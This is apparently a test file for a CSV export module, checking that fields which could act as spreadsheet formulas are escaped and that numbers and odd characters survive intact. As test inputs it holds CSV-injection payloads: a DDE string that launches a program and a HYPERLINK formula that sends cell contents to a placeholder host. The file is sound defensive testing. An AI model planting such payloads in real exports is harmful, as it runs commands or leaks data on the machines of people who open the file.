import fc from "fast-check";
import t from "tap";
import { visible } from "../../src/domain/visible.ts";
import { type Column, csvHead, csvRow } from "../../src/audit/csv.ts";
import { holds } from "../support/holds.ts";

const TWO: readonly Column<readonly [string, string]>[] = [
  { en: "one", zh: "一", of: ([one]) => one },
  { en: "two", zh: "二", of: ([, two]) => two },
];
const ANY: readonly Column<unknown>[] = [{ en: "value", zh: "值", of: (value) => value as string }];

/** Fields of one line as a spreadsheet reads it (RFC 4180). */
function fieldsOf(line: string): string[] {
  const fields: string[] = [];
  let at = 0;
  for (;;) {
    let field = "";
    if (line[at] === '"') {
      at++;
      for (;;) {
        const end = line.indexOf('"', at);
        if (end === -1) throw new Error("a quote is not closed");
        field += line.slice(at, end);
        at = end + 1;
        if (line[at] !== '"') break;
        field += '"';
        at++;
      }
    } else {
      const [plain = ""] = /^[^",\r\n]*/.exec(line.slice(at)) ?? [];
      field = plain;
      at += plain.length;
    }
    fields.push(field);
    if (line.slice(at) === "\r\n") return fields;
    if (line[at] !== ",") throw new Error("neither a comma nor the end of the line");
    at++;
  }
}

// Characters that OWASP's page on CSV injection names, and those that programs skip first: blanks and marks.
const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
const PASSED_OVER = ["", " ", "\u00a0", "\u3000", "\ufeff", "\t ", "\0"];

/** Tells whether a spreadsheet may run a field. */
function runs(field: string): boolean {
  return STARTS.some((start) => field.trimStart().startsWith(start) || field.startsWith(start));
}

t.test("CSV: what a spreadsheet would run becomes a text", async (t) => {
  for (const blank of PASSED_OVER) {
    for (const start of STARTS) {
      for (const rest of ["", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "1,=2", "1\r\n=2"]) {
        const text = blank + start + rest;
        const shown = visible(text);
        const [field, next, ...more] = fieldsOf(csvRow(TWO, [text, "housing"]));
        t.equal(field, runs(shown) ? `'${shown}` : shown, JSON.stringify(text));
        t.notOk(runs(field ?? ""), JSON.stringify(text));
        t.same([next, ...more], ["housing"], "and nothing of it gets into the next field");
      }
    }
  }
});

t.test("CSV: numbers and plain texts stay as they are", async (t) => {
  for (const value of [
    0,
    -1,
    7700,
    0.25,
    -12.5,
    1_790_000_000_123,
    true,
    "-3",
    "12345678901",
    "0.25",
    "housing",
    "a=b",
    "2026-11-23T09:00:00.000Z",
    "11320723MB0X12345A",
    " text",
    "",
  ]) {
    t.same(fieldsOf(csvRow(ANY, value)), [String(value)]);
  }
  for (const nothing of [null, undefined]) t.equal(csvRow(ANY, nothing), "\r\n");
  // Texts that only begin like a number.
  for (const text of ["-1-1", "--1", "-1e9", "-"]) t.same(fieldsOf(csvRow(ANY, text)), [`'${text}`]);
});

t.test("CSV: digits that a spreadsheet would change become a text", async (t) => {
  for (const text of [
    "113207230140123456",
    "320723198806140001",
    "123456789012",
    "007",
    "0012.50",
    "1E10",
    "1.5e+300",
    "9132E5",
    "-113207230140123456",
  ]) {
    t.same(fieldsOf(csvRow(ANY, text)), [`'${text}`], text);
  }
});

t.test("CSV: invisible characters are shown by their code points", async (t) => {
  t.same(fieldsOf(csvRow(ANY, "民\u200b政\ufe0f\u3164局\r\n")), [
    "民〔U+200B〕政〔U+FE0F〕〔U+3164〕局〔U+000D〕〔U+000A〕",
  ]);
});

t.test("CSV: a line keeps its columns for any content, and no field is a formula", async (t) => {
  const text = fc.string({
    unit: fc.oneof(
      fc.constantFrom(...STARTS, '"', ",", "'", " ", "1", "0", "e", "."),
      fc.string({ unit: "grapheme", maxLength: 1 }),
    ),
  });
  await holds(
    t,
    fc.property(text, text, (one, two) => {
      const fields = fieldsOf(csvRow(TWO, [one, two]));
      if (fields.length !== 2) return false;
      return [one, two].every((asked, n) => {
        const field = fields[n] ?? "";
        const shown = visible(asked);
        return (field === shown || field === `'${shown}`) && (!runs(field) || /^-\d+(\.\d+)?$/.test(field));
      });
    }),
    { numRuns: 2_000 },
  );
});

t.test("CSV: headings are escaped too", async (t) => {
  const odd: readonly Column<unknown>[] = [{ en: 'a "b", c', zh: "甲，乙", of: () => "" }];
  t.equal(csvHead(odd, "en"), '"a ""b"", c"\r\n');
  t.equal(csvHead(odd, "zh"), "\ufeff甲，乙\r\n");
});
